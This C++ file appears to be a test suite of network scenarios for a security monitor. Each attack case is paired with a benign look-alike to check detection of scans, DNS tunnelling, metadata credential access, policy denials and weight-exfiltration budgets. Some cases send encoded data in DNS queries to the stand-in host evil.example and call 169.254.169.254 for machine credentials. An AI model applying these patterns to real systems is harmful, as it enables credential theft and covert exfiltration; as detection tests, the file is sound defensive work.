// SPDX-License-Identifier: Apache-2.0
// Whom processes call, and what policies say of it.
#include <unistd.h>

#include <random>
#include <string>

#include "tests/scenarios/stage.h"

namespace moat::scenarios {
namespace {

using event::FindingKind;

constexpr const char* kClosed = R"(
apiVersion: moat/v1
kind: Policy
metadata: {name: closed}
spec:
  mode: enforce
  subjects: [{cgroup: SCOPE}]
  egress: {default: deny, allow: [{cidr: 10.66.7.7/32}]}
)";
constexpr const char* kTried = R"(
apiVersion: moat/v1
kind: Policy
metadata: {name: tried}
spec:
  mode: dry-run
  subjects: [{cgroup: SCOPE}]
  egress: {default: deny, allow: [{cidr: 10.66.7.7/32}]}
)";
constexpr const char* kMetadata = R"(
apiVersion: moat/v1
kind: Policy
metadata: {name: metadata}
spec:
  mode: observe
  subjects: [{cgroup: SCOPE}]
  egress: {default: deny, allow: [{cidr: 169.254.169.254/32}]}
)";

// Random characters of an alphabet, as an encoder of encrypted data makes them.
class Encoded {
 public:
  explicit Encoded(const char* alphabet) : alphabet_(alphabet) {}
  std::string operator()(size_t length) {
    std::string text;
    while (text.size() < length) {
      text += alphabet_[random_() % alphabet_.size()];
    }
    return text;
  }

 private:
  std::string alphabet_;
  std::mt19937 random_{7};
};
constexpr const char* kHex = "0123456789abcdef";
constexpr const char* kBase32 = "abcdefghijklmnopqrstuvwxyz234567";

constexpr const char* kBudget = R"(
apiVersion: moat/v1
kind: Policy
metadata: {name: budget}
spec:
  mode: enforce
  subjects: [{cgroup: SCOPE}]
  egress: {default: allow, holding: [{asset: model, allow: [{cidr: 10.66.7.7/32}], budget: {bytes: 1MiB, per: 1h}}]}
)";

std::string Neighbour(int number) { return "10.66.1." + std::to_string(number); }

const Scenario kAll[] = {
    {"sweep", FindingKind::kLateralMovement, kAttack, "calls many neighbours, one port each",
     [](const Site&) {
       for (int i = 1; i <= 60; ++i) {
         (void)Call(Neighbour(i).c_str(), 22);
       }
     }},
    {"port-scan", FindingKind::kLateralMovement, kAttack, "calls many ports of one neighbour",
     [](const Site&) {
       for (int i = 1; i <= 60; ++i) {
         (void)Call(kStore, static_cast<uint16_t>(1000 + i));
       }
     }},
    {"a-lost-server", FindingKind::kLateralMovement, kOrdinary, "asks the one server that does not answer again and again",
     [](const Site&) {
       for (int i = 1; i <= 60; ++i) {
         (void)Call(kStore, 9999);
       }
     }},
    {"a-few-peers", FindingKind::kLateralMovement, kOrdinary, "talks to its store and to one outside",
     [](const Site&) {
       for (int i = 0; i < 30; ++i) {
         Send(kStore, 443, 1000);
         Send(kOutside, 443, 1000);
       }
     }},
    {"tunnel", FindingKind::kDnsTunnel, kAttack, "sends a file in the names of DNS questions",
     [](const Site&) {
       Encoded encoded(kBase32);
       for (int i = 0; i < 120; ++i) {
         Ask(kStore, encoded(60) + "." + encoded(60) + ".t.evil.example");
       }
     }},
    {"tunnel-by-children", FindingKind::kDnsTunnel, kAttack, "the same in hexadecimal, a process and a resolver for each",
     [](const Site&) {
       Encoded encoded(kHex);
       for (int i = 0; i < 80; ++i) {
         InChild(
             [&, name = std::to_string(i) + "." + encoded(48) + ".evil.example"] { Ask(i % 2 != 0 ? kStore : kOutside, name); });
       }
     }},
    {"tunnel-of-words", FindingKind::kDnsTunnel, kAttack, "the same as words: by volume",
     [](const Site&) {
       for (int i = 0; i < 700; ++i) {
         std::string name;
         for (int word = 0, rest = i * 7919; word < 12; ++word, rest = rest / 7 + i) {
           static constexpr const char* kWords[] = {"apple", "river", "table", "cloud", "stone", "paper", "horse"};
           name += std::string(kWords[rest % 7]) + kWords[(rest + word) % 7] + (word % 4 == 3 ? "." : "");
         }
         Ask(kStore, std::to_string(i) + "." + name + "evil.example");
       }
     }},
    {"services", FindingKind::kDnsTunnel, kOrdinary, "looks up its cluster's services by all search paths, and hosts backwards",
     [](const Site&) {
       for (int i = 0; i < 100; ++i) {
         for (const char* path : {".prod.svc.cluster.local", ".svc.cluster.local", ".cluster.local", ".eu.corp.example", ""}) {
           Ask(kStore, "inference-worker-" + std::to_string(i) + ".headless-model-server" + path);
         }
         Ask(kStore, std::to_string(i) + ".1.66.10.in-addr.arpa");
       }
     }},
    {"content-network", FindingKind::kDnsTunnel, kOrdinary, "asks for a few random names of a content network again and again",
     [](const Site&) {
       for (int round = 0; round < 50; ++round) {
         Encoded encoded(kHex);  // the same each round
         for (int i = 0; i < 20; ++i) {
           Ask(kStore, encoded(40) + ".cdn.example");
         }
       }
     }},
    {"many-hosts", FindingKind::kDnsTunnel, kOrdinary, "asks for many hosts of many domains",
     [](const Site&) {
       Encoded encoded(kHex);
       for (int i = 0; i < 400; ++i) {
         Ask(kStore, encoded(32) + ".host" + std::to_string(i) + ".example");
       }
     }},
    {"credentials", FindingKind::kMetadataAccess, kAttack, "asks the cloud for the machine's credentials",
     [](const Site&) {
       Check(::setuid(65534) == 0);
       (void)Call("169.254.169.254", 80);
     }},
    {"credentials-by-a-child", FindingKind::kMetadataAccess, kAttack, "the same by a child",
     [](const Site&) {
       InChild([] {
         Check(::setuid(65534) == 0);
         (void)Call("169.254.169.254", 80);
       });
     }},
    {"credentials-allowed", FindingKind::kMetadataAccess, kOrdinary, "asks for them, as a policy allows",
     [](const Site&) {
       Check(::setuid(65534) == 0);
       (void)Call("169.254.169.254", 80);
     },
     kMetadata},
    {"time-service", FindingKind::kMetadataAccess, kOrdinary, "asks a neighbour of that address",
     [](const Site&) { (void)Call("169.254.169.123", 123); }},
    {"denied", FindingKind::kPolicyDenial, kAttack, "calls whom a policy denies", [](const Site&) { (void)Call(kOutside, 443); },
     kClosed},
    {"denied-again", FindingKind::kPolicyDenial, kAttack, "calls many whom a policy denies",
     [](const Site&) {
       for (int i = 0; i < 20; ++i) {
         (void)Call(kOutside, static_cast<uint16_t>(443 + i));
       }
     },
     kClosed},
    {"allowed", FindingKind::kPolicyDenial, kOrdinary, "calls whom it allows", [](const Site&) { Send(kStore, 443, 100); },
     kClosed},
    {"dry-run", FindingKind::kPolicyDenial, kOrdinary, "what a policy in dry-run would deny is not denied",
     [](const Site&) { Send(kOutside, 443, 100); }, kTried},
    {"would-be-denied", FindingKind::kPolicyWouldDeny, kAttack, "and is told as that",
     [](const Site&) { Send(kOutside, 443, 100); }, kTried},
    {"beyond-the-budget", FindingKind::kBudgetExhausted, kAttack, "sends more of what it holds than its budget, at once",
     [](const Site& site) { ReadFile(site.weights, 0.1), TrySend(kStore, 443, 4 << 20); }, kBudget},
    {"beyond-the-budget-in-parts", FindingKind::kBudgetExhausted, kAttack, "the same by children, a little each",
     [](const Site& site) {
       ReadFile(site.weights, 0.1);
       for (int i = 0; i < 8; ++i) {
         InChild([] { TrySend(kStore, 443, 256 << 10); });
       }
     },
     kBudget},
    {"within-the-budget", FindingKind::kBudgetExhausted, kOrdinary, "sends less than it may",
     [](const Site& site) { ReadFile(site.weights, 0.1), Send(kStore, 443, 200'000); }, kBudget},
    {"a-budget-of-holders", FindingKind::kBudgetExhausted, kOrdinary, "sends more, and holds nothing",
     [](const Site&) { Send(kStore, 443, 4 << 20); }, kBudget},
    {"would-be-denied-twice", FindingKind::kPolicyWouldDeny, kAttack, "however often",
     [](const Site&) { Send(kOutside, 443, 100), Send(kOutside, 8443, 100); }, kTried},
    {"would-be-allowed", FindingKind::kPolicyWouldDeny, kOrdinary, "what it allows is not",
     [](const Site&) { Send(kStore, 443, 100); }, kTried},
    {"observed", FindingKind::kPolicyWouldDeny, kOrdinary, "what is only observed decides nothing",
     [](const Site&) { Send(kOutside, 443, 100); }, kMetadata},
};

}  // namespace

std::span<const Scenario> Network() { return kAll; }

}  // namespace moat::scenarios
